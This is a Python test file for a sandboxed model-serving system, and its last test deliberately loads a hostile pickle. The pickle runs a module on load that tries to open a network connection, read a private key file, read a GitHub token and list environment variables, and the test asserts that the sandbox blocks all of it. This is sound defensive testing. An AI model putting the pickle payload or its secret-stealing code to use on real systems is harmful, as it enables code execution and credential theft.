"""Sandboxed model workers: real scikit-learn models, and a hostile pickle."""

from __future__ import annotations

import json
import os
import select
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from modelci.deliver.modelspec import Column, ServingSpec
from modelci.errors import PredictionFailed, WorkerFailed
from modelci.serving.launcher import Launcher
from modelci.serving.worker import ModelWorker
from tests.serving.conftest import (
    NUMERIC,
    REQUIREMENTS,
    categorical_model,
    numeric_model,
    sandboxed,
)

pytestmark = [sandboxed, pytest.mark.sandbox, pytest.mark.slow]


@pytest.fixture
def started(launcher: Launcher) -> Iterator[list[ModelWorker]]:
    workers: list[ModelWorker] = []
    yield workers
    for worker in workers:
        worker.stop()


def test_numeric_model_predicts_like_in_process(
    launcher: Launcher, base_dir: Path, started: list[ModelWorker]
) -> None:
    import joblib
    import numpy as np

    model_dir = base_dir / "numeric"
    spec = numeric_model(model_dir, loader="pickle")
    worker = launcher.start("numeric", 1, model_dir, spec)
    started.append(worker)
    rows = np.random.default_rng(1).normal(size=(50, 4))
    columns = {name: rows[:, i].tolist() for i, name in enumerate(NUMERIC)}
    expected = joblib.load(model_dir / "model.joblib").predict(rows).tolist()
    assert worker.predict(columns, 50) == expected
    assert not worker.uses_frame  # fitted on an array: served from an array
    # The work dir (the private copy of the model) belongs to the sandbox's uid.
    work = worker.process.spec.workdir
    assert work.stat().st_uid != 0
    assert (work.stat().st_mode & 0o077) == 0


def test_categorical_pipeline_gets_a_dataframe(
    launcher: Launcher, base_dir: Path, started: list[ModelWorker]
) -> None:
    model_dir = base_dir / "categorical"
    spec = categorical_model(model_dir)
    worker = launcher.start("categorical", 1, model_dir, spec)
    started.append(worker)
    assert worker.uses_frame
    assert worker.predict({"colour": ["red", "blue", "green"], "size": [1.0, 2.0, 3.0]}, 3) == [
        1,
        0,
        0,
    ]


def test_model_errors_and_crashes(
    launcher: Launcher, base_dir: Path, started: list[ModelWorker]
) -> None:
    model_dir = base_dir / "errors"
    spec = numeric_model(model_dir)
    worker = launcher.start("errors", 1, model_dir, spec)
    started.append(worker)
    with pytest.raises(PredictionFailed, match="ValueError"):
        # Unvalidated input (the service validates first): numpy cannot convert it.
        worker.predict({name: ["abc"] for name in NUMERIC}, 1)
    assert worker.predict({name: [0.5] for name in NUMERIC}, 1) in ([0], [1])
    os.killpg(worker.process.pid, 9)
    # The model's process dies with bwrap (its parent-death signal), a moment later.
    for _ in range(100):
        try:
            worker.predict({name: [0.5] for name in NUMERIC}, 1)
        except WorkerFailed:
            break
        time.sleep(0.05)
    else:
        pytest.fail("the worker still answered after its sandbox was killed")
    assert worker.dead


def test_unloadable_artifact_is_reported(launcher: Launcher, base_dir: Path) -> None:
    model_dir = base_dir / "corrupt"
    spec = numeric_model(model_dir)
    (model_dir / "model.joblib").write_bytes(b"not a pickle")
    with pytest.raises(WorkerFailed, match="could not load the model"):
        launcher.start("corrupt", 1, model_dir, spec)


HOSTILE = """
import json, os, socket

PORT = {port}
SECRET = {secret!r}


class Hostile:
    def __init__(self):
        found = {{}}
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=2).send(b"stolen")
            found["network"] = "connected"
        except OSError as exc:
            found["network"] = "blocked: " + str(exc)
        try:
            with open(SECRET) as handle:
                found["secret"] = handle.read()
        except OSError as exc:
            found["secret"] = "blocked: " + str(exc)
        found["token"] = os.environ.get("MODELCI_GITHUB_TOKEN")
        found["environ"] = sorted(os.environ)
        found["uid"] = os.getuid()
        self.found = found

    def predict(self, rows):
        return [json.dumps(self.found)] * len(rows)


def load():
    return Hostile()
"""


def test_hostile_pickle_is_contained(
    launcher: Launcher,
    base_dir: Path,
    started: list[ModelWorker],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MODELCI_GITHUB_TOKEN", "ghs_host_token_must_not_leak")
    secret = base_dir / "app-private-key.pem"
    secret.write_text("-----BEGIN PRIVATE KEY-----\nsecret\n")
    secret.chmod(0o600)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    port = listener.getsockname()[1]
    model_dir = base_dir / "hostile"
    (model_dir / "code").mkdir(parents=True)
    (model_dir / "code" / "hostile.py").write_text(HOSTILE.format(port=port, secret=str(secret)))
    # Unpickling calls hostile.load(): code runs on load, as with any pickle.
    (model_dir / "model.pkl").write_bytes(b"chostile\nload\n(tR.")
    spec = ServingSpec(
        loader="pickle",
        artifact="model.pkl",
        columns=(Column("x", "double"),),
        input_example=[{"x": 1.0}],
        code_paths=("code",),
        requirements=REQUIREMENTS,
    )
    spec.write(model_dir)
    worker = launcher.start("hostile", 1, model_dir, spec)
    started.append(worker)
    [report] = worker.predict({"x": [1.0]}, 1)
    found = json.loads(report)
    assert found["network"].startswith("blocked")
    assert found["secret"].startswith("blocked")
    assert found["token"] is None
    assert not [name for name in found["environ"] if "TOKEN" in name or "SECRET" in name]
    assert found["uid"] != 0
    # Nothing reached the listener.
    assert select.select([listener], [], [], 0.5)[0] == []
    listener.close()
